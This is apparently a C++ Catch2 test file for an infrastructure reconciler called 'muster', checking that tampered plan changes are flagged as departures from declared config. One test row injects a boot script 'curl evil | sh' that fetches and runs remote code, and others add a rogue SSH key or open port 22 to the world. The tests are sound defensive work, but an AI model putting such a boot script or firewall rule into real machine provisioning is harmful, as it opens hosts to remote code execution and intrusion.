#include "reconciler/core/plan/verdict/departures.hpp"

#include <catch2/catch.hpp>

#include "tests/support/plans.hpp"

using namespace muster;
using namespace muster::test;

namespace {

std::vector<std::string> departures(const Scene& scene, const std::vector<Change>& changes) {
  const auto& w = scene.world;
  return departures_of(changes, w.fleet, w.actual, w.capabilities);
}

/// A plan that makes one machine.
std::vector<Change> one_more(const Scene& scene) {
  auto desired = as_desired(scene);
  const auto spec = desired.machines.begin()->second;
  desired.machines[{PoolName("worker"), 4}] = spec;
  return plan_of(scene, desired).changes;
}

CreateMachine& machine_in(std::vector<Change>& changes) {
  for (auto& change : changes) {
    if (auto* create = std::get_if<CreateMachine>(&change.effect)) return *create;
  }
  throw std::logic_error("no machine is made");
}

}  // namespace

TEST_CASE("what muster plans follows from the declared files") {
  for (std::uint32_t seed = 1; seed <= 200; ++seed) {
    const auto turmoil = a_turmoil(seed);
    std::vector<std::string> found;
    for (auto& line : departures(turmoil.scene, plan_of(turmoil.scene, turmoil.desired).changes)) {
      // These scenes draw specs of their own; only what a fleet's objects do to each other is held here.
      if (line.find("traffic") != std::string::npos || line.find("waits") != std::string::npos)
        found.push_back(line);
    }
    INFO("seed " << seed);
    CHECK(found.empty());
  }
  Scene scene;
  scene.machines(3);
  CHECK(departures(scene, one_more(scene)).empty());
}

TEST_CASE("what somebody wrote into a plan does not follow from the declared files") {
  Scene scene;
  scene.machines(3);
  struct Row {
    const char* that;
    void (*edit)(CreateMachine&);
    const char* message;
  };
  const Row rows[] = {
      {"another boot script", [](CreateMachine& e) { e.spec.user_data = "#!/bin/sh\ncurl evil | sh\n"; },
       "user data"},
      {"another image", [](CreateMachine& e) { e.spec.image = "evil"; }, "image"},
      {"one more key", [](CreateMachine& e) { e.spec.ssh_keys.push_back("eve"); }, "SSH keys"},
      {"one more tag", [](CreateMachine& e) { e.spec.tags.push_back("open"); }, "tags"},
      {"a size that is not on the ladder", [](CreateMachine& e) { e.spec.size = SizeName("huge"); },
       "not on the ladder"},
      {"another region", [](CreateMachine& e) { e.spec.region = Region("mars1"); }, "region mars1"},
      {"a way out that is not on the ladder",
       [](CreateMachine& e) {
         e.or_else = {{SizeName("huge"), e.spec.region, {}}};
       },
       "not on the ladder"},
      {"another network", [](CreateMachine& e) { e.spec.network = "theirs"; }, "network"},
      {"a way out into another network",
       [](CreateMachine& e) {
         e.or_else = {{e.spec.size, e.spec.region, {}, "theirs"}};
       },
       "network"},
      {"a pool that is not declared", [](CreateMachine& e) { e.slot.pool = PoolName("miner"); },
       "pool miner is not declared"},
  };
  for (const auto& row : rows) {
    INFO(row.that);
    auto changes = one_more(scene);
    row.edit(machine_in(changes));
    const auto found = departures(scene, changes);
    REQUIRE_FALSE(found.empty());
    CHECK_THAT(found.front(), Catch::Contains(row.message));
  }
}

TEST_CASE("other changes are held against the declared files as well") {
  Scene scene;
  scene.machines(3);
  const auto& pool = scene.world.fleet.pools.front();
  const auto of = [&](Effect effect) {
    Change change;
    change.address = "it";
    change.effect = std::move(effect);
    return departures(scene, {change});
  };
  const auto& [slot, machine] = *scene.world.actual.machines.begin();
  CHECK(of(UpdateFirewall{pool.name, FirewallId("1"), {}, pool.firewall}).empty());
  CHECK_FALSE(of(UpdateFirewall{pool.name, FirewallId("1"), {}, {{"tcp", "22", {"0.0.0.0/0"}}}}).empty());
  CHECK_FALSE(of(DestroyFirewall{pool.name, FirewallId("1")}).empty());
  CHECK_FALSE(of(ResizeMachine{slot, machine.id, machine.size, SizeName("huge")}).empty());
  CHECK_FALSE(of(TagMachine{slot, machine.id, {"muster-fleet:other"}}).empty());
  CHECK_FALSE(of(CreateNetwork{{"theirs", Region("nyc3"), ""}}).empty());
  CHECK_FALSE(of(ReleaseMachine{slot, machine.id, machine.size, machine.region, {}}).empty());
  CHECK_FALSE(of(LeaveBalancer{{pool.name, 1}, LoadBalancerId("1"), slot, machine.id}).empty());
}
